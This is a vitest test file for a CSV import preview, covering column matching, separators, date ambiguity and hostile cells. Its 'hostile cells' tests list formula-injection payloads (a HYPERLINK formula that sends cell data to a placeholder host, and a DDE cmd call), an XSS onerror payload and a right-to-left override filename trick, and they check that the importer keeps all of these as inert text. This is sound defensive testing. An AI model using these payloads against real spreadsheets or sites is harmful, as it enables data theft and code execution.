import { describe, expect, it } from 'vitest'
import { countRows } from '../../../shared/exchange/import-preview.ts'
import {
  imported,
  inventionTitles,
  previewOf,
  previewOfBytes,
  previewOfText,
} from '../../fixtures/import-samples.ts'

const meaningsOf = (text: string) => previewOfText('a.csv', text).columns.map(({ meaning }) => meaning)
const firstOf = (text: string) => [...imported(previewOfText('a.csv', text)).inventions.values()][0]

describe('a European list', () => {
  const preview = previewOf('generic-european-semicolon.csv')

  it('is split where `sep=` says', () => {
    expect(preview.columns.map(({ header, meaning }) => `${header}: ${meaning}`)).toEqual([
      'Erfindung: title',
      'Aufwand (PM): effort',
      'Status: status',
      'Nutzen: benefit',
      'Stärke: strength',
      'Datum: null',
    ])
  })

  it('is read with decimal commas', () => {
    const efforts = [...imported(preview).inventions.values()].map(({ effort }) => effort)
    expect(efforts).toEqual([10.5, 40, 1200.25, null])
  })

  it('links each invention to the benefits beside it, the same invention once', () => {
    const workshop = imported(preview)
    expect(countRows(preview)).toEqual({ read: 5, taken: 4, merged: 1, skipped: 0 })
    expect(workshop.benefits.size).toBe(3)
    expect([...workshop.links.values()].map(({ strength }) => strength)).toEqual([9, 9, 1, 3])
  })
})

describe('columns', () => {
  it('are matched by name without their unit', () => {
    expect(meaningsOf('Invention,Effort (person-months),Colour\nBelt,3,red')).toEqual([
      'title',
      'effort',
      null,
    ])
  })

  it('take the first one as the title where none is called so', () => {
    expect(meaningsOf('Projekt,Farbe\nGurt,rot')).toEqual(['title', null])
  })

  it('mean what the person says', () => {
    const preview = previewOfText('a.csv', 'Projekt,Farbe\nGurt,rot', { meanings: ['note', 'title'] })
    expect([...imported(preview).inventions.values()]).toMatchObject([{ title: 'rot', note: 'Gurt' }])
  })

  it('can be told to make pitches', () => {
    const preview = previewOfText('a.csv', 'name,emphasis\nSafest car,40', { creates: 'pitch' })
    expect([...imported(preview).pitches.values()]).toMatchObject([{ title: 'Safest car', emphasis: 40 }])
  })

  it('may be called like built-in properties', () => {
    expect(meaningsOf('title,__proto__,constructor,toString\nBelt,a,b,c')).toEqual([
      'title',
      null,
      null,
      null,
    ])
  })

  it('are found below a preamble', () => {
    expect(firstOf('Our list,,\n,,\nTitle,Effort,Note\nBelt,3,x')).toMatchObject({ title: 'Belt', effort: 3 })
  })
})

describe('separators', () => {
  it('are counted outside quotation marks only', () => {
    const text = 'title;note\n"a,b,c,d";"e,f,g,h"\n"i,j,k,l";"m,n,o,p"'
    expect(inventionTitles(imported(previewOfText('a.csv', text)))).toEqual(['a,b,c,d', 'i,j,k,l'])
  })

  it('may be tabs', () => {
    expect(firstOf('title\teffort\nBelt, 3-point\t4')).toMatchObject({ title: 'Belt, 3-point', effort: 4 })
  })
})

describe('days', () => {
  const list = (day: string) => `title,available from\nBelt,${day}\n`

  it('are asked about once when day and month could be swapped', () => {
    const preview = previewOfText('a.csv', list('3/4/2026'))
    expect(preview.dates).toBe('ambiguous')
    expect(preview.rows[0]?.faults).toMatchObject([{ code: 'day-or-month', value: '3/4/2026' }])
  })

  it('are read as the person says', () => {
    const asked = (dates: 'day-first' | 'month-first') =>
      [...imported(previewOfText('a.csv', list('3/4/2026'), { dates })).inventions.values()][0]?.availableFrom
    expect(asked('day-first')).toBe('2026-04-03')
    expect(asked('month-first')).toBe('2026-03-04')
  })

  it('are not asked about when one row proves the order for all', () => {
    const preview = previewOfText('a.csv', `${list('3/4/2026')}Airbag,25/4/2026\n`)
    expect(preview.dates).toBe('day-first')
    expect([...imported(preview).inventions.values()][0]?.availableFrom).toBe('2026-04-03')
  })

  it('that do not exist stay unknown', () => {
    expect(firstOf(list('30.02.2026'))?.availableFrom).toBeNull()
  })
})

describe('hostile cells', () => {
  const preview = previewOf('formula-injection.csv')

  it('stay text, letter for letter', () => {
    expect(inventionTitles(imported(preview))).toEqual([
      '=1+1',
      '=HYPERLINK("http://example.invalid/?d="&A1,"click")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(1,2)',
      "=cmd|' /C calc'!A0",
      '＝1+1 (full-width)',
      'Price -5%',
      '<img src=x onerror=alert(1)>',
      '__proto__',
    ])
  })

  it('with a negative effort leave the effort unknown and say so', () => {
    const [row] = preview.rows.filter(({ faults }) => faults.length > 0)
    expect(row).toMatchObject({ row: 5, faults: [{ code: 'out-of-range', column: 'effort', value: '-1' }] })
    expect([...imported(preview).inventions.values()][3]?.effort).toBeNull()
  })

  it('lose characters that turn the reading direction, and say so', () => {
    const turned = previewOfText('a.csv', 'title,note\nBelt \u202egpj.exe,x')
    expect(turned.rows[0]?.faults).toMatchObject([{ code: 'characters-removed', column: 'title' }])
    expect(inventionTitles(imported(turned))).toEqual(['Belt gpj.exe'])
  })

  it('of ten megabytes are shortened, and say so', () => {
    const long = previewOfText('a.csv', `title,note\n${'x'.repeat(10_000_000)},y`)
    expect(long.rows[0]?.faults).toMatchObject([{ code: 'shortened' }])
    expect(inventionTitles(imported(long))[0]).toHaveLength(200)
  })

  it('that open a quotation mark and never close it are told', () => {
    const open = previewOfText('a.csv', 'title,note\nBelt,x\nAirbag,"never closed\nSeat,y\n')
    expect(open.rows.at(-1)?.faults).toMatchObject([{ code: 'quote-not-closed' }])
  })
})

it('reads what Excel saves as Unicode text', () => {
  const text = '\uFEFFtitle\tnote\r\nGürtel\tx\r\n'
  const bytes = new Uint8Array(text.length * 2)
  for (const [at, sign] of [...text].entries())
    bytes.set([sign.charCodeAt(0) & 0xff, sign.charCodeAt(0) >> 8], at * 2)
  expect(inventionTitles(imported(previewOfBytes('a.txt', bytes)))).toEqual(['Gürtel'])
})
